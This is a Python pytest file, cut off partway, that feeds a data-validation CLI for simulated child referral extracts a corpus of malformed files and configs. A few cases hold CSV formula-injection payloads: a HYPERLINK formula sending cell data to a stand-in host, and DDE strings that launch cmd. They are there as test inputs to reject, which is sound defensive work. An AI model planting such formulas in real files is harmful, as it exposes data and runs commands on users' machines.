"""Bad inputs: every verb that reads a file answers each with a clear error.

A corpus of bad extracts, configs, run folders and arguments, built in ``tmp_path`` from
the tiny simulated extract.  Each case runs the verb in-process (``workflows.cli.main``)
and checks what an analyst would see: exit code 2, a message naming the file (and the
row and column where there is one), no traceback, no output folder, and every file of
the case folder (the user's input included) byte-identical afterwards.  No case fits a
model: each must be refused before fitting.  tests/README.md lists the corpus.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest

from workflows import paths
from workflows.cli import main
from workflows.simulate import write_simulation

#: Rows of the tiny extract most cases use (all in one LA: E06000001).
N_ROWS = 300


@dataclass
class Base:
    """The tiny simulated extract as lists of strings (it holds no quotes or commas)."""

    header: list[str]
    rows: list[list[str]]
    folder: Path

    def col(self, name: str) -> int:
        return self.header.index(name)

    def copy_rows(self, n: int | None = N_ROWS) -> list[list[str]]:
        return [list(r) for r in (self.rows if n is None else self.rows[:n])]


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Base:
    folder = tmp_path_factory.mktemp("bad-inputs-base")
    write_simulation(folder / "sim", "tiny", 1)
    lines = (folder / "sim" / "extract.csv").read_text(encoding="utf-8").splitlines()
    return Base(lines[0].split(","), [line.split(",") for line in lines[1:]], folder)


def csv_bytes(header: list[str], rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


# ---------------------------------------------------------------------------------------
# Case builders: each writes its files into the case folder and returns the argv
# ---------------------------------------------------------------------------------------

def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


def extract(mutate=None, n: int | None = N_ROWS, name: str = "extract.csv"):
    """A builder writing the tiny extract (first ``n`` rows), changed by ``mutate(header, rows)``."""
    def build(base: Base, folder: Path) -> Path:
        header, rows = list(base.header), base.copy_rows(n)
        if mutate is not None:
            header, rows = mutate(base, header, rows) or (header, rows)
        return write(folder, name, csv_bytes(header, rows))
    return build


def raw_file(data, name: str):
    """A builder writing ``data`` (bytes, or a function of the base giving bytes) as is."""
    def build(base: Base, folder: Path) -> Path:
        return write(folder, name, data(base) if callable(data) else data)
    return build


def set_cell(row: int, column: str, value: str):
    """Set the cell at spreadsheet row ``row`` (header = 1) of ``column``."""
    def mutate(base, header, rows):
        rows[row - 2][header.index(column)] = value
    return mutate


def chain(*mutations):
    def mutate(base, header, rows):
        for m in mutations:
            header, rows = m(base, header, rows) or (header, rows)
        return header, rows
    return mutate


def rename(old: str, new: str):
    def mutate(base, header, rows):
        header[header.index(old)] = new
    return mutate


def drop(*columns: str):
    def mutate(base, header, rows):
        keep = [j for j, h in enumerate(header) if h not in columns]
        return [header[j] for j in keep], [[r[j] for j in keep] for r in rows]
    return mutate


def no_assessments(base, header, rows):
    """Every episode unassessed (and nothing an assessment records): a valid extract that
    has nothing for the models of the assessment factors."""
    for r in rows:
        r[header.index("assessment")] = "false"
        r[header.index("assessment_factors")] = ""
        r[header.index("assessment_date")] = ""


def no_factors(base, header, rows):
    """Assessments without any factor recorded."""
    for r in rows:
        r[header.index("assessment_factors")] = ""


def one_la(base, header, rows):
    la = header.index("la_code")
    return header, [r for r in rows if r[la] == "E06000001"]


def latin1_row(base: Base) -> bytes:
    rows = base.copy_rows(20)
    rows[4][base.col("ethnicity")] = "WéRI"  # spreadsheet row 6
    return csv_bytes(base.header, rows).replace("WéRI".encode("utf-8"), "WéRI".encode("cp1252"))


def delimited(delimiter: str):
    def data(base: Base) -> bytes:
        lines = [delimiter.join(base.header)] + [delimiter.join(r) for r in base.copy_rows(20)]
        return ("\n".join(lines) + "\n").encode("utf-8")
    return data


def ragged(base: Base) -> bytes:
    lines = [",".join(base.header)] + [",".join(r) for r in base.copy_rows(20)]
    lines[6] = ",".join(base.rows[5][:14])                       # row 7 cut short
    lines[9] += ",White, British"                               # row 10: an unquoted comma, 2 fields too many
    return ("\n".join(lines) + "\n").encode("utf-8")


def parquet_of(rows_n: int, header_twice: str | None = None):
    def data(base: Base) -> bytes:
        import pyarrow as pa
        import pyarrow.parquet as pq

        cols = [pa.array([r[j] for r in base.rows[:rows_n]], type=pa.string()) for j in range(len(base.header))]
        names = list(base.header)
        if header_twice:
            cols.append(cols[names.index(header_twice)])
            names.append(header_twice)
        sink = io.BytesIO()
        pq.write_table(pa.Table.from_arrays(cols, names=names), sink)
        return sink.getvalue()
    return data


def config(text: str, name: str = "run.toml", extract_builder=None, extract_name: str = "extract.csv"):
    """A builder writing a run config (``{extract}`` in ``text`` becomes the extract's file name)."""
    def build(base: Base, folder: Path) -> Path:
        if extract_builder is not None:
            extract_builder(base, folder)
        return write(folder, name, text.replace("{extract}", extract_name))
    return build


def folder_of(files: dict):
    """A builder making the folder ``run`` holding ``files`` (name -> bytes, or a function of
    the case folder giving bytes)."""
    def build(base: Base, folder: Path) -> Path:
        run = folder / "run"
        run.mkdir()
        for name, data in files.items():
            target = run / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data(folder) if callable(data) else data)
        return run
    return build


def netcdf(log_likelihood: bool = True):
    def data(folder: Path) -> bytes:
        import arviz as az

        groups = {"posterior": {"a": np.zeros((1, 20))}}
        if log_likelihood:
            groups["log_likelihood"] = {"y": np.zeros((1, 20, 3))}
        path = folder / ".tmp.nc"
        az.from_dict(**groups).to_netcdf(str(path))
        data = path.read_bytes()
        path.unlink()
        return data
    return data


FIT_MANIFEST = json.dumps({"command": "fit", "config": {"gradient": {"scales": ["population"]}},
                           "sections": {"gradient": {"key": "x", "convergence": {}}}}).encode()
GRADIENT = "[gradient]\ndraws = 10\ntune = 10\nchains = 1\n"
OWN = '[data]\nextract = "{extract}"\n'


@dataclass
class Case:
    id: str
    build: object            # (base, folder) -> Path of the input the argv names
    argv: list[str]          # {input} and {out} are filled in
    expect: list[str]        # regexes, all of which must match stdout + stderr
    mark: object = None


def C(id, build, argv, *expect, mark=None) -> Case:
    return Case(id, build, argv, list(expect), mark)


VALIDATE = ["validate", "{input}"]
DESCRIBE = ["describe", "{input}", "--out", "{out}"]


def failed(name: str) -> str:
    return rf"{re.escape(name)}: validation FAILED"


CASES: list[Case] = [
    # --- the file itself ------------------------------------------------------------------
    C("missing-path", lambda b, f: f / "absent.csv", VALIDATE, r"absent\.csv: file not found"),
    C("missing-folder", lambda b, f: f / "nowhere" / "x.csv", VALIDATE,
      r"x\.csv: file not found \(the folder .*nowhere does not exist either\)"),
    C("directory", lambda b, f: (f / "extract.csv").mkdir() or f / "extract.csv", VALIDATE,
      r"extract\.csv: is a folder, not a file"),
    C("empty-file", raw_file(b"", "empty.csv"), VALIDATE, r"empty\.csv: the file is empty \(no header row\)"),
    C("whitespace-only", raw_file(b"\n \n\t\n", "blank.csv"), VALIDATE, r"blank\.csv: the file is empty"),
    C("blank-first-row", raw_file(lambda b: b"\n" + csv_bytes(b.header, b.copy_rows(5)), "gap.csv"), VALIDATE,
      r"gap\.csv: row 1 is blank: the first row must be the header"),
    C("binary-garbage", raw_file(random.Random(21).randbytes(4096), "garbage.csv"), VALIDATE,
      r"garbage\.csv: cannot read it as csv: the file holds binary data"),
    C("xlsx-renamed-csv", raw_file(b"PK\x03\x04" + bytes(200), "book.csv"), VALIDATE,
      r"book\.csv: .*zip archive \(an Excel \.xlsx workbook\?\)"),
    C("xlsx-extension", raw_file(b"PK\x03\x04" + bytes(200), "book.xlsx"), VALIDATE,
      r"book\.xlsx: unsupported file type: a spreadsheet workbook; save the sheet as CSV"),
    C("txt-extension", raw_file(b"child_id\n", "extract.txt"), VALIDATE,
      r"extract\.txt: unsupported file type; give a \.csv, \.csv\.gz or \.parquet file"),
    C("utf16-text", raw_file(lambda b: csv_bytes(b.header, b.copy_rows(5)).decode().encode("utf-16"), "u16.csv"),
      VALIDATE, r"u16\.csv: .*UTF-16 text: save it as UTF-8"),
    C("non-utf8-row", raw_file(latin1_row, "latin1.csv"), VALIDATE,
      r"latin1\.csv: cannot read it as csv", r"1 row\(s\) are not UTF-8 text",
      r"row 6, column ethnicity: byte 0xe9 \(the cell reads 'WéRI' as Windows-1252 text\)"),
    C("semicolon-delimited", raw_file(delimited(";"), "semi.csv"), VALIDATE,
      r"semi\.csv: row 1 \(the header\) is separated by semicolons \(';'\), not commas"),
    C("tab-delimited", raw_file(delimited("\t"), "tabs.csv"), VALIDATE,
      r"tabs\.csv: row 1 \(the header\) is separated by tabs \('\\t'\)"),
    C("ragged-rows", raw_file(ragged, "ragged.csv"), VALIDATE,
      r"ragged\.csv: cannot read it as csv", r"2 row\(s\) do not have the 23 fields of the header row",
      r"row 7: 14 field\(s\)", r"row 10: 25 field\(s\)"),
    C("quote-left-open", raw_file(lambda b: csv_bytes(b.header, b.copy_rows(20)).replace(b",WBRI,", b',"WBRI,', 1),
                                  "open.csv"), VALIDATE,
      r"open\.csv: cannot read it as csv", r"row 2: 9 field\(s\) \(a quoted value runs over 20 lines: is a double "
      r"quote left open\?\)"),
    C("parquet-renamed-csv", raw_file(parquet_of(5), "data.csv"), VALIDATE,
      r"data\.csv: .*a Parquet file, not CSV text: give it the \.parquet extension"),
    C("csv-renamed-parquet", raw_file(lambda b: csv_bytes(b.header, b.copy_rows(5)), "data.parquet"), VALIDATE,
      r"data\.parquet: cannot read it as parquet: not a Parquet file; it looks like text \(CSV\?"),
    C("truncated-parquet", raw_file(lambda b: parquet_of(5)(b)[:300], "cut.parquet"), VALIDATE,
      r"cut\.parquet: cannot read it as parquet"),
    C("parquet-duplicate-column", raw_file(parquet_of(5, header_twice="gender"), "dup.parquet"), VALIDATE,
      r"dup\.parquet: column\(s\) gender given more than once"),
    C("gzip-named-csv", raw_file(lambda b: __import__("gzip").compress(csv_bytes(b.header, b.copy_rows(5))),
                                 "packed.csv"), VALIDATE,
      r"packed\.csv: .*gzip-compressed: give it the \.csv\.gz extension"),
    C("damaged-csv-gz", raw_file(lambda b: __import__("gzip").compress(csv_bytes(b.header, b.copy_rows(50)))[:400],
                                 "cut.csv.gz"), VALIDATE, r"cut\.csv\.gz: cannot read it as csv\.gz"),
    # --- the header -----------------------------------------------------------------------
    C("header-only", extract(n=0, name="header.csv"), VALIDATE,
      r"ERROR \[no_rows\]", r"the file has a header but no data rows", failed("header.csv")),
    C("blank-data-rows-only", raw_file(lambda b: csv_bytes(b.header, [[""] * 23] * 3), "blanks.csv"), VALIDATE,
      r"ERROR \[no_rows\]", r"3 blank row\(s\) ignored \(first rows: 2, 3, 4\)", failed("blanks.csv")),
    C("duplicate-column", extract(rename("date_of_birth", "referral_date"), name="dup.csv"), VALIDATE,
      r"ERROR \[duplicate_column\]",
      r"column referral_date: referral_date is the header of columns 5 \(E\) and 6 \(F\): give it once",
      failed("dup.csv")),
    C("duplicate-column-case", extract(rename("disability", " Gender "), name="dup2.csv"), VALIDATE,
      r"columns 8 \(H\) and 10 \(J\)", failed("dup2.csv")),
    C("misspelt-column", extract(rename("referral_date", "refferal_date"), name="typo.csv"), VALIDATE,
      r"column referral_date: required column is missing; column 5 \(E\) is headed 'refferal_date': "
      r"a misspelling of referral_date\?", failed("typo.csv")),
    C("missing-column", extract(drop("gender"), name="nogender.csv"), VALIDATE,
      r"ERROR \[missing_column\]", r"column gender: required column is missing", failed("nogender.csv")),
    C("missing-both-ages", extract(drop("date_of_birth", "age_at_referral"), name="noage.csv"), VALIDATE,
      r"column date_of_birth/age_at_referral: give date_of_birth or age_at_referral", failed("noage.csv")),
    C("not-an-extract", raw_file(b"name,amount\nx,1\n", "other.csv"), VALIDATE,
      r"column child_id: required column is missing", r"unknown column \(column 1 \(A\)\)", failed("other.csv")),
    # --- the values -----------------------------------------------------------------------
    C("referral-in-future", extract(set_cell(7, "referral_date", "2099-01-05"), name="future.csv"), VALIDATE,
      r"ERROR \[date_in_future\]", r"row 7, column referral_date, value '2099-01-05': after today",
      failed("future.csv")),
    C("stage-date-in-future", extract(set_cell(3, "assessment_date", "2098-05-10"), name="future2.csv"), VALIDATE,
      r"row 3, column assessment_date, value '2098-05-10': after today", failed("future2.csv")),
    C("referral-before-birth", extract(set_cell(5, "date_of_birth", "2021-12-01"), name="unborn.csv"), VALIDATE,
      r"ERROR \[dob_after_referral\]", r"row 5, column date_of_birth, value '2021-12-01': more than 9 months",
      failed("unborn.csv")),
    C("unknown-date-format", extract(set_cell(9, "referral_date", "2019/04/31"), name="datefmt.csv"), VALIDATE,
      r"ERROR \[bad_date\]", r"row 9, column referral_date, value '2019/04/31': not a date", failed("datefmt.csv")),
    C("us-date", extract(set_cell(4, "date_of_birth", "12/31/2013"), name="usdate.csv"), VALIDATE,
      r"row 4, column date_of_birth, value '12/31/2013': not a date", failed("usdate.csv")),
    C("excel-serial-date", extract(set_cell(2, "referral_date", "43560"), name="serial.csv"), VALIDATE,
      r"row 2, column referral_date, value '43560': not a date", failed("serial.csv")),
    C("negative-age", extract(chain(set_cell(6, "age_at_referral", "-3"), set_cell(6, "date_of_birth", "")),
                              name="negage.csv"), VALIDATE,
      r"ERROR \[age_out_of_range\]", r"row 6, column age_at_referral, value '-3'", failed("negage.csv")),
    C("impossible-age", extract(chain(set_cell(8, "age_at_referral", "25"), set_cell(8, "date_of_birth", "")),
                                name="oldage.csv"), VALIDATE,
      r"row 8, column age_at_referral, value '25': age at referral must be 0-17", failed("oldage.csv")),
    C("age-not-a-number", extract(set_cell(3, "age_at_referral", "five"), name="wordage.csv"), VALIDATE,
      r"ERROR \[bad_age\]", r"row 3, column age_at_referral, value 'five'", failed("wordage.csv")),
    C("age-disagrees-with-dob", extract(set_cell(2, "age_at_referral", "12"), name="mismatch.csv"), VALIDATE,
      r"ERROR \[age_mismatch\]", r"row 2, column age_at_referral, value '12': date_of_birth gives age 3",
      failed("mismatch.csv")),
    C("unknown-la-code", extract(set_cell(4, "la_code", "E06999999"), name="la.csv"), VALIDATE,
      r"ERROR \[unknown_la_code\]", r"row 4, column la_code, value 'E06999999'", failed("la.csv")),
    C("welsh-la-code", extract(set_cell(5, "la_code", "W06000015"), name="wales.csv"), VALIDATE,
      r"row 5, column la_code, value 'W06000015': not a children's services authority code", failed("wales.csv")),
    C("unknown-lsoa", extract(set_cell(6, "lsoa_code", "E01999999"), name="lsoa.csv"), VALIDATE,
      r"ERROR \[unknown_lsoa\]", r"row 6, column lsoa_code, value 'E01999999'", failed("lsoa.csv")),
    C("lsoa-outside-la", extract(set_cell(7, "lsoa_code", "E01017013"), name="outside.csv"), VALIDATE,
      r"ERROR \[lsoa_outside_la\]", r"row 7, column lsoa_code, value 'E01017013': this LSOA lies in E06000044",
      failed("outside.csv")),
    C("duplicate-episodes", extract(lambda b, h, r: (h, r + [list(r[2]), list(r[9])]), name="dupep.csv"), VALIDATE,
      r"ERROR \[duplicate_episode_id\] duplicate episode_id: 2", rf"row {N_ROWS + 2}, column episode_id, .*: duplicates row 4",
      rf"row {N_ROWS + 3}, column episode_id, .*: duplicates row 11", failed("dupep.csv")),
    C("factor-outside-cin-list", extract(set_cell(3, "assessment_factors", "1B;99Z"), name="factor.csv"), VALIDATE,
      r"ERROR \[unknown_factor\]", r"row 3, column assessment_factors, value '99Z'", failed("factor.csv")),
    C("ethnicity-outside-cin-list", extract(set_cell(5, "ethnicity", "ZZZZ"), name="eth.csv"), VALIDATE,
      r"ERROR \[unknown_ethnicity\]", r"row 5, column ethnicity, value 'ZZZZ'", failed("eth.csv")),
    C("gender-outside-cin-list", extract(set_cell(6, "gender", "X"), name="gender.csv"), VALIDATE,
      r"row 6, column gender, value 'X': not male/female/other/unknown", failed("gender.csv")),
    C("flag-not-boolean", extract(set_cell(8, "s47", "maybe"), name="flag.csv"), VALIDATE,
      r"ERROR \[bad_bool\]", r"row 8, column s47, value 'maybe'", failed("flag.csv")),
    C("required-blank", extract(set_cell(9, "child_id", ""), name="noid.csv"), VALIDATE,
      r"ERROR \[required_blank\]", r"row 9, column child_id: child_id is required", failed("noid.csv")),
    C("formula-hyperlink", extract(set_cell(6, "ethnicity", '=HYPERLINK("http://x.example/?q="&A2,"WBRI")'),
                                   name="inject.csv"), VALIDATE,
      r"ERROR \[spreadsheet_formula\]", r"row 6, column ethnicity, value '=HYPERLINK\(",
      r"a spreadsheet would run it as a formula", failed("inject.csv")),
    C("formula-plus", extract(set_cell(4, "la_code", "+E06000001"), name="plus.csv"), VALIDATE,
      r"row 4, column la_code, value '\+E06000001': begins with =, \+, - or @", failed("plus.csv")),
    C("formula-minus", extract(set_cell(5, "lsoa_code", "-2+3+cmd|' /C calc'!A0"), name="minus.csv"), VALIDATE,
      r"row 5, column lsoa_code, value \"-2\+3\+CMD\|' /C CALC'!A0\": begins with", failed("minus.csv")),
    C("formula-at", extract(set_cell(7, "episode_id", "@SUM(1+1)*cmd|' /C calc'!A0"), name="at.csv"), VALIDATE,
      r"row 7, column episode_id, value \"@SUM\(1\+1\)", failed("at.csv")),
    C("formula-in-factors", extract(set_cell(3, "assessment_factors", "=1B+16A"), name="ffactor.csv"), VALIDATE,
      r"row 3, column assessment_factors, value '=1B\+16A': begins with", failed("ffactor.csv")),
    C("every-problem-at-once", extract(chain(set_cell(3, "gender", "X"), set_cell(5, "lsoa_code", "E01999999"),
                                             set_cell(9, "referral_date", "yesterday"), drop("ethnicity")),
                                       name="many.csv"), VALIDATE,
      r"column ethnicity: required column is missing", r"row 3, column gender", r"row 5, column lsoa_code",
      r"row 9, column referral_date", r"many\.csv: validation FAILED: 4 error\(s\)"),
    # --- describe: the same file problems, and too little to describe -----------------------
    C("describe-missing-path", lambda b, f: f / "absent.csv", DESCRIBE, r"absent\.csv: file not found"),
    C("describe-directory", lambda b, f: (f / "x.csv").mkdir() or f / "x.csv", DESCRIBE, r"x\.csv: is a folder"),
    C("describe-header-only", extract(n=0, name="header.csv"), DESCRIBE,
      r"error: .*ERROR \[no_rows\]", failed("header.csv")),
    C("describe-one-row", extract(n=1, name="one.csv"), DESCRIBE,
      r"one\.csv: 1 referral episode\(s\): fewer than the suppression threshold \(10\)"),
    C("describe-duplicate-column", extract(rename("date_of_birth", "referral_date"), name="dup.csv"), DESCRIBE,
      r"referral_date is the header of columns 5 \(E\) and 6 \(F\)", failed("dup.csv")),
    C("describe-non-utf8", raw_file(latin1_row, "latin1.csv"), DESCRIBE, r"latin1\.csv: .*row 6, column ethnicity"),
    C("describe-formula", extract(set_cell(6, "gender", "=1+1"), name="inject.csv"), DESCRIBE,
      r"row 6, column gender, value '=1\+1'", failed("inject.csv")),
    C("describe-threshold-negative", extract(name="x.csv"), DESCRIBE + ["--threshold", "-1"],
      r"suppression threshold must be >= 0, got -1"),
    C("describe-out-is-a-file", extract(name="x.csv"), ["describe", "{input}", "--out", "{input}"],
      r"--out .*x\.csv is a file, not a folder"),
    C("describe-out-holds-input", extract(name="x.csv"), ["describe", "{input}", "--out", "{folder}"],
      r"--out .*case is not empty and is not a workbench output folder \(x\.csv\)"),
    C("describe-out-under-a-file", extract(name="x.csv"), ["describe", "{input}", "--out", "{input}/sub"],
      r"--out .*x\.csv/sub is inside .*x\.csv, which is a file, not a folder"),
    # --- gradient ---------------------------------------------------------------------------
    C("gradient-missing-path", lambda b, f: f / "absent.csv", ["gradient", "{input}", "--out", "{out}"],
      r"absent\.csv: file not found"),
    C("gradient-header-only", extract(n=0, name="header.csv"), ["gradient", "{input}", "--out", "{out}"],
      r"ERROR \[no_rows\]", failed("header.csv")),
    C("gradient-too-few-episodes", extract(n=12, name="few.csv"), ["gradient", "{input}", "--out", "{out}"],
      r"few\.csv: 12 referral episode\(s\): the social gradient model needs at least 50; nothing was fitted"),
    C("gradient-duplicate-column", extract(rename("date_of_birth", "referral_date"), name="dup.csv"),
      ["gradient", "{input}", "--out", "{out}"], r"columns 5 \(E\) and 6 \(F\)", failed("dup.csv")),
    C("gradient-unknown-prior", extract(name="x.csv"), ["gradient", "{input}", "--out", "{out}", "--prior", "flat"],
      r"unknown prior set 'flat'; choose one of default, wide, pc"),
    C("gradient-zero-draws", extract(name="x.csv"), ["gradient", "{input}", "--out", "{out}", "--draws", "0"],
      r"draws 0, tune 1000, chains 4: draws and chains must be >= 1"),
    C("gradient-negative-seed", extract(name="x.csv"), ["gradient", "{input}", "--out", "{out}", "--seed", "-1"],
      r"seed -1: expected a whole number from 0 to 2\*\*32 - 1"),
    C("gradient-negative-threshold", extract(name="x.csv"),
      ["gradient", "{input}", "--out", "{out}", "--threshold", "-5"], r"suppression threshold must be >= 0"),
    C("gradient-draws-not-a-number", extract(name="x.csv"),
      ["gradient", "{input}", "--out", "{out}", "--draws", "many"], r"argument --draws: invalid int value: 'many'"),
    # --- sensitivity --------------------------------------------------------------------------
    C("sensitivity-non-utf8", raw_file(latin1_row, "latin1.csv"), ["sensitivity", "{input}", "--out", "{out}"],
      r"latin1\.csv: .*row 6, column ethnicity"),
    C("sensitivity-unknown-prior-set", extract(name="x.csv"),
      ["sensitivity", "{input}", "--out", "{out}", "--prior-sets", "default,flat"],
      r"--prior-sets: unknown prior set 'flat'"),
    C("sensitivity-too-few-episodes", extract(n=3, name="few.csv"), ["sensitivity", "{input}", "--out", "{out}"],
      r"few\.csv: 3 referral episode\(s\): the social gradient model needs at least 50"),
    # --- latent-class -------------------------------------------------------------------------
    C("latent-class-no-assessed-episodes", extract(no_assessments, name="unassessed.csv"),
      ["latent-class", "{input}", "--out", "{out}"],
      r"unassessed\.csv: 0 assessed episode\(s\) \(assessment = true\): a latent class model needs at least 50"),
    C("latent-class-no-factors", extract(no_factors, name="nofactors.csv"),
      ["latent-class", "{input}", "--out", "{out}"],
      r"nofactors\.csv: 0 assessment factor\(s\) recorded in the 278 assessed episodes"),
    C("latent-class-k-out-of-range", extract(name="x.csv"), ["latent-class", "{input}", "--out", "{out}",
                                                             "--k-max", "100"],
      r"k 0, k_min 1, k_max 100: at most 20 classes"),
    C("latent-class-formula", extract(set_cell(4, "cpp_category", "@neglect"), name="inject.csv"),
      ["latent-class", "{input}", "--out", "{out}"], r"row 4, column cpp_category, value '@neglect'",
      failed("inject.csv")),
    # --- joint --extract / --config -----------------------------------------------------------
    C("joint-extract-missing", lambda b, f: f / "absent.csv", ["joint", "--extract", "{input}", "--out", "{out}"],
      r"absent\.csv: file not found"),
    C("joint-extract-directory", lambda b, f: (f / "x.csv").mkdir() or f / "x.csv",
      ["joint", "--extract", "{input}", "--out", "{out}"], r"x\.csv: is a folder, not a file"),
    C("joint-extract-no-assessed", extract(no_assessments, name="unassessed.csv"),
      ["joint", "--extract", "{input}", "--out", "{out}"],
      r"unassessed\.csv: 0 assessed episode\(s\) \(assessment = true\): the joint model needs at least 50"),
    C("joint-config-k-zero", config("[joint]\nk = 0\n", "k0.toml"),
      ["joint", "--config", "{input}", "--extract", "{folder}/absent.csv", "--out", "{out}"],
      r"k0\.toml: joint\.k = 0: expected the number of demand classes, 1 to 20"),
    C("joint-config-unknown-key", config("[joint]\nk = 4\nclases = 3\n", "typo.toml"),
      ["joint", "--config", "{input}", "--out", "{out}"],
      r"typo\.toml: unknown key joint\.clases.*expected one of"),
    C("joint-config-unknown-prior", config('[joint]\nk = 4\nprior = "flat"\n', "prior.toml"),
      ["joint", "--config", "{input}", "--extract", "{folder}/absent.csv", "--out", "{out}"],
      r"prior\.toml: joint\.prior = 'flat': unknown prior set 'flat'"),
    C("joint-config-missing", lambda b, f: f / "absent.toml", ["joint", "--config", "{input}", "--out", "{out}"],
      r"config '.*absent\.toml' not found"),
    # --- fit --config -------------------------------------------------------------------------
    C("fit-extract-header-only", config(OWN + GRADIENT, extract_builder=extract(n=0)),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: data\.extract extract\.csv does not pass validation; nothing was fitted",
      r"ERROR \[no_rows\]"),
    C("fit-extract-duplicate-column", config(OWN + GRADIENT, extract_builder=extract(rename("date_of_birth",
                                                                                            "referral_date"))),
      ["fit", "--config", "{input}", "--out", "{out}"], r"columns 5 \(E\) and 6 \(F\)",
      r"extract\.csv: validation FAILED"),
    C("fit-extract-missing", config(OWN + GRADIENT), ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: data\.extract = '.*extract\.csv': file not found"),
    C("fit-extract-is-a-folder", config(OWN + GRADIENT, extract_builder=lambda b, f: (f / "extract.csv").mkdir()),
      ["fit", "--config", "{input}", "--out", "{out}"], r"run\.toml: data\.extract = '.*extract\.csv': is a folder"),
    C("fit-no-assessed-for-latent-class",
      config(OWN + "[latent_class]\nk = 2\nk_max = 0\n", extract_builder=extract(no_assessments)),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"extract\.csv: 0 assessed episode\(s\) \(assessment = true\): \[latent_class\] needs at least 50"),
    C("fit-unknown-preset", config('[data]\npreset = "huge"\nseed = 1\n[gradient]\n'),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: data\.preset = 'huge': unknown preset; choose one of tiny, six-la, national"),
    C("fit-negative-seed", config('[data]\npreset = "tiny"\nseed = -4\n[gradient]\n'),
      ["fit", "--config", "{input}", "--out", "{out}"], r"run\.toml: data\.seed = -4: expected a non-negative"),
    C("fit-unknown-key", config('[data]\npreset = "tiny"\nseed = 1\n[gradient]\ndraw = 10\n'),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: unknown key gradient\.draw \(did you mean draws\?\); expected one of"),
    C("fit-unknown-section", config('[data]\npreset = "tiny"\nseed = 1\n[gradeint]\ndraws = 10\n'),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: unknown section \[gradeint\] \(did you mean gradient\?\)"),
    C("fit-wrong-type", config('[data]\npreset = "tiny"\nseed = 1\n[gradient]\ndraws = "many"\n'),
      ["fit", "--config", "{input}", "--out", "{out}"], r"run\.toml: gradient\.draws = 'many': expected int"),
    C("fit-every-config-problem-at-once",
      config('[data]\npreset = "tiny"\nseed = "one"\n[gradient]\ndraw = 10\nchains = 1.5\n[reprot]\n'),
      ["fit", "--config", "{input}", "--out", "{out}"], r"run\.toml: 4 problems:",
      r"unknown section \[reprot\] \(did you mean report\?\)", r"data\.seed = 'one': expected int",
      r"unknown key gradient\.draw", r"gradient\.chains = 1\.5: expected int"),
    C("fit-k-out-of-range", config('[data]\npreset = "tiny"\nseed = 1\n[latent_class]\nk = 50\nk_max = 0\n'),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: \[latent_class\] k 50, k_min 1, k_max 0: at most 20 classes"),
    C("fit-unknown-prior-set", config('[data]\npreset = "tiny"\nseed = 1\n[gradient]\nprior = "flat"\n'),
      ["fit", "--config", "{input}", "--out", "{out}"], r"run\.toml: \[gradient\] unknown prior set 'flat'"),
    C("fit-unknown-sensitivity-prior-sets",
      config('[data]\npreset = "tiny"\nseed = 1\n[sensitivity]\nprior_sets = ["default", "flat"]\n'),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: sensitivity\.prior_sets = \['default', 'flat'\]: expected prior set names"),
    C("fit-negative-draws", config('[data]\npreset = "tiny"\nseed = 1\n[gradient]\ndraws = -5\n'),
      ["fit", "--config", "{input}", "--out", "{out}"], r"run\.toml: \[gradient\] draws -5, tune 1000, chains 4"),
    C("fit-not-toml", config('[data\npreset = "tiny"\n'), ["fit", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: not valid TOML: "),
    C("fit-toml-not-utf8", raw_file('[data]\npreset = "tïny"\nseed = 1\n'.encode("cp1252"), "latin1.toml"),
      ["fit", "--config", "{input}", "--out", "{out}"],
      r"latin1\.toml: not valid TOML: line 2 is not UTF-8 text \(byte 0xef\)"),
    C("fit-config-is-a-folder", lambda b, f: (f / "cfg.toml").mkdir() or f / "cfg.toml",
      ["fit", "--config", "{input}", "--out", "{out}"], r"cfg\.toml: is a folder, not a config file"),
    C("fit-config-binary", raw_file(random.Random(7).randbytes(512), "bin.toml"),
      ["fit", "--config", "{input}", "--out", "{out}"], r"bin\.toml: not valid TOML"),
    # --- compare --config / DIRS --------------------------------------------------------------
    C("compare-config-extract-non-utf8",
      config(OWN + '[compare]\nvariants = ["full", "no_la_slopes"]\n', extract_builder=raw_file(latin1_row,
                                                                                                "latin1.csv"),
             extract_name="latin1.csv"),
      ["compare", "--config", "{input}", "--out", "{out}"], r"latin1\.csv: .*row 6, column ethnicity"),
    C("compare-config-one-variant", config('[data]\npreset = "tiny"\nseed = 1\n[compare]\nvariants = ["full"]\n'),
      ["compare", "--config", "{input}", "--out", "{out}"],
      r"run\.toml: \[compare\] variants \['full'\]: expected two or more of"),
    C("compare-dirs-one-folder", folder_of({}), ["compare", "{input}", "--out", "{out}"],
      r"compare: give two or more fitted folders"),
    C("compare-dirs-missing", lambda b, f: f / "absent", ["compare", "{input}", "{folder}/absent2", "--out", "{out}"],
      r"absent: no such folder"),
    C("compare-dirs-file-not-folder", raw_file(b"x", "notes.txt"),
      ["compare", "{input}", "{folder}", "--out", "{out}"], r"notes\.txt: is a file, not a folder"),
    C("compare-dirs-same-folder-twice", folder_of({"readme.txt": b"x"}),
      ["compare", "{input}", "{input}/../run", "--out", "{out}"], r"compare: .*run given more than once"),
    C("compare-dirs-empty-folder", folder_of({"readme.txt": b"x"}),
      ["compare", "{input}", "{folder}", "--out", "{out}"], r"run: no posterior\.nc here"),
    C("compare-dirs-corrupt-posterior", folder_of({"posterior.nc": b"CDF\x01" + bytes(100)}),
      ["compare", "{input}", "{folder}", "--out", "{out}"],
      r"run/posterior\.nc: cannot be read as a posterior \(NetCDF\)"),
    C("compare-dirs-no-log-likelihood", folder_of({"posterior.nc": netcdf(log_likelihood=False)}),
